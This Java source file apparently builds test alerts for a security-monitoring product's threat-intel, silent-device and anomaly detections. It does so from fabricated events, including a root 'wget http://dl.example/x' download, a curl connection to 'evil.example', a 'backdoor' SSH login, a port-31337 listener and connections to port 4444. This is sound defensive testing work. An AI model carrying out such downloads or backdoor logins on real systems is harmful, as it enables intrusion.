package io.vigil.detect.pack;

import io.vigil.detect.Detection;
import io.vigil.detect.DeviceSilentDetection;
import io.vigil.detect.anomaly.AnomalyDetection;
import io.vigil.detect.anomaly.AnomalySettings;
import io.vigil.detect.anomaly.PeerGroups;
import io.vigil.detect.anomaly.ProfileStore;
import io.vigil.detect.intel.Indicator;
import io.vigil.detect.intel.IndicatorStore;
import io.vigil.detect.intel.IndicatorType;
import io.vigil.detect.intel.ThreatIntelDetection;
import io.vigil.detect.settings.RuleSettings;
import io.vigil.model.Alert;
import io.vigil.model.event.ConnectionCreate;
import io.vigil.model.event.DeviceEvent;
import io.vigil.model.event.Direction;
import io.vigil.model.event.EventHeader;
import io.vigil.model.event.ListeningPorts;
import io.vigil.model.event.Login;
import io.vigil.model.event.ProcessCreate;
import io.vigil.model.event.SecurityEvent;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/**
 * The alerts that the built-in Java detections (not Sigma rules) raise, each kind at least once:
 * real detections fed real events. Custom alerts are left out: they are the user's own thresholds
 * per security group, not a technique.
 */
final class JavaDetectionAlerts {
  private static final Instant T0 = Instant.parse("2026-03-01T10:00:00Z");
  private static final String HASH = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";

  private JavaDetectionAlerts() {}

  static List<Alert> all() {
    List<Alert> out = new ArrayList<>();
    intel(out);
    silent(out);
    anomaly(out);
    return out;
  }

  private static void intel(List<Alert> out) {
    IndicatorStore store = IndicatorStore.of(List.of(
        new Indicator(IndicatorType.IP, "203.0.113.0/24", "test", 80, Indicator.NEVER, List.of()),
        new Indicator(IndicatorType.DOMAIN, "evil.example", "test", 80, Indicator.NEVER, List.of()),
        new Indicator(IndicatorType.URL, "http://dl.example/x", "test", 80, Indicator.NEVER, List.of()),
        new Indicator(IndicatorType.SHA256, HASH, "test", 80, Indicator.NEVER, List.of())));
    Detection intel = new ThreatIntelDetection(() -> store);
    intel.evaluate(connection("gw-1", T0, 1, "203.0.113.5", "443"), out::add);
    intel.evaluate(event("gw-1", T0, new ConnectionCreate(header(T0), List.of(new ConnectionCreate.Connection("192.0.2.1", "443",
        "10.0.0.2", "40000", Direction.OUT, "TCP", 7, "0", "/usr/bin/curl", null, Map.of("RemoteHostName", "evil.example"))))), out::add);
    intel.evaluate(process("gw-1", T0, "/tmp/x", Map.of("Sha256", HASH)), out::add);
    intel.evaluate(event("gw-1", T0, new ProcessCreate(header(T0), List.of(
        new ProcessCreate.Process("/usr/bin/wget", 8, 1, "0", "root", "wget http://dl.example/x", Map.of())))), out::add);
  }

  private static void silent(List<Alert> out) {
    Detection silent = new DeviceSilentDetection(RuleSettings::none, 10);
    silent.evaluate(process("gw-1", T0, "/usr/bin/telemetryd", Map.of()), out::add);
    silent.advance(T0.plus(Duration.ofDays(4)), out::add);
  }

  /** A device that learns for 30 minutes, then does everything new at once, at many times its usual rates. */
  private static void anomaly(List<Alert> out) {
    Detection anomaly = new AnomalyDetection(AnomalySettings.defaults().withLearningPeriod(Duration.ofMinutes(30)),
        ProfileStore.inMemory(), new PeerGroups(1_000), RuleSettings::none);
    anomaly.evaluate(event("gw-2", T0, new ListeningPorts(header(T0), List.of(new ListeningPorts.Port(null, null, "0.0.0.0", "22", "tcp",
        Map.of())))), out::add);
    for (int m = 0; m <= 30; m++) {
      Instant at = T0.plus(Duration.ofMinutes(m));
      anomaly.evaluate(process("gw-2", at, "/usr/bin/telemetryd", Map.of()), out::add);
      anomaly.evaluate(connection("gw-2", at.plusSeconds(1), 4, "192.0.2.10", "8883"), out::add);
    }
    Instant after = T0.plus(Duration.ofMinutes(31));
    anomaly.evaluate(process("gw-2", after, "/tmp/.x/new", Map.of()), out::add);
    anomaly.evaluate(event("gw-2", after, new ListeningPorts(header(after), List.of(
        new ListeningPorts.Port(null, null, "0.0.0.0", "22", "tcp", Map.of()), new ListeningPorts.Port(null, null, "0.0.0.0", "31337",
            "tcp", Map.of())))), out::add);
    anomaly.evaluate(event("gw-2", after, new Login(header(after), List.of(new Login.Attempt(900, null, "backdoor", "PAM:authentication",
        "/usr/sbin/sshd", "192.0.2.7", "50000", "22", Login.Result.SUCCESS, Map.of())))), out::add);
    for (int m = 31; m < 36; m++) {
      Instant at = T0.plus(Duration.ofMinutes(m));
      anomaly.evaluate(connection("gw-2", at, 80, "198.51.100.66", "4444"), out::add);
      for (int s = 2; s < 40; s++) {
        anomaly.evaluate(process("gw-2", at.plusSeconds(s), "/usr/bin/telemetryd", Map.of()), out::add);
      }
    }
    anomaly.evaluate(process("gw-2", T0.plus(Duration.ofMinutes(37)), "/usr/bin/telemetryd", Map.of()), out::add);
  }

  private static EventHeader header(Instant at) {
    return EventHeader.at(at, ZoneOffset.UTC);
  }

  private static DeviceEvent event(String device, Instant at, SecurityEvent e) {
    return new DeviceEvent(device, "default", "agent-1", "1.0", at, e);
  }

  private static DeviceEvent process(String device, Instant at, String executable, Map<String, String> extra) {
    return event(device, at, new ProcessCreate(header(at), List.of(new ProcessCreate.Process(executable, 4242, 1, "0", "root", executable,
        extra))));
  }

  private static DeviceEvent connection(String device, Instant at, int n, String address, String port) {
    List<ConnectionCreate.Connection> items = new ArrayList<>();
    for (int i = 0; i < n; i++) {
      items.add(new ConnectionCreate.Connection(address, port, "10.0.0.2", Integer.toString(40000 + i), Direction.OUT, "TCP", 77, "0",
          "/usr/bin/telemetryd", "/usr/bin/telemetryd", Map.of()));
    }
    return event(device, at, new ConnectionCreate(header(at), items));
  }
}
